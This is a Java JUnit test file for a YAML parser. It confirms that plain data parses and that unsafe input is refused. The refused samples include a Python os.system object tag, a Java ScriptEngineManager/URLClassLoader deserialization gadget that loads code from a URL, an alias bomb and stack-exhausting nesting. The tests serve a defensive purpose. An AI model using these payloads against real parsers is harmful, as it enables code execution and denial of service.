package io.lambdaregistry.yaml;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.lambdaregistry.error.ErrorCode;
import io.lambdaregistry.error.RegistryException;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

final class YamlTest {
    @Test
    void everyScalarIsTheTextThatItIs() {
        assertThat(Yaml.parse("{id: 12345e6789, flag: true, none: null, empty: , list: [1, '2']}"))
                .isEqualTo(Map.of(
                        "id", "12345e6789", "flag", "true", "none", "null", "empty", "", "list", List.of("1", "2")));
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "# nothing", "---"})
    void aTextWithoutADocumentIsEmpty(String text) {
        assertThat(Yaml.parse(text)).isEqualTo("");
    }

    @Test
    void anAliasStandsForWhatItNames() {
        assertThat(Yaml.parse("{a: &x {k: v}, b: *x}")).isEqualTo(Map.of("a", Map.of("k", "v"), "b", Map.of("k", "v")));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a: [",
                "a: 1\n b: 2",
                "\tfoo: bar",
                "a: 1\na: 2",
                "a: 1\n---\nb: 2",
                "!!python/object/apply:os.system ['touch /tmp/pwned']",
                "x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://x/']]]]",
                "x: !!int 7",
                "&a [*a]",
                "&a {k: *a}",
                "? [a, b]\n: c",
                "a: \u0007",
            })
    void whatIsNoPlainDataIsRefused(String text) {
        assertRefused(text);
    }

    @Test
    void aBombOfAliasesIsRefused() {
        StringBuilder bomb = new StringBuilder("a0: &a0 [x]\n");
        for (int i = 1; i < 10; i++) {
            bomb.append("a%d: &a%d [%s]\n"
                    .formatted(
                            i,
                            i,
                            String.join(
                                    ",",
                                    List.of(("*a" + (i - 1) + " ")
                                            .repeat(9)
                                            .strip()
                                            .split(" ")))));
        }
        assertRefused(bomb.toString());
    }

    @ParameterizedTest
    @ValueSource(strings = {"[", "{a: ", "- "})
    void whatNestsTooDeepIsRefusedBeforeItFillsTheStack(String opening) {
        assertRefused(opening.repeat(300_000));
    }

    private static void assertRefused(String text) {
        assertThatThrownBy(() -> Yaml.parse(text))
                .isInstanceOfSatisfying(
                        RegistryException.class,
                        refusal -> assertThat(refusal.code()).isEqualTo(ErrorCode.INVALID_PARAMETER_VALUE))
                .hasMessageStartingWith("It is no YAML that can be read: ");
    }
}
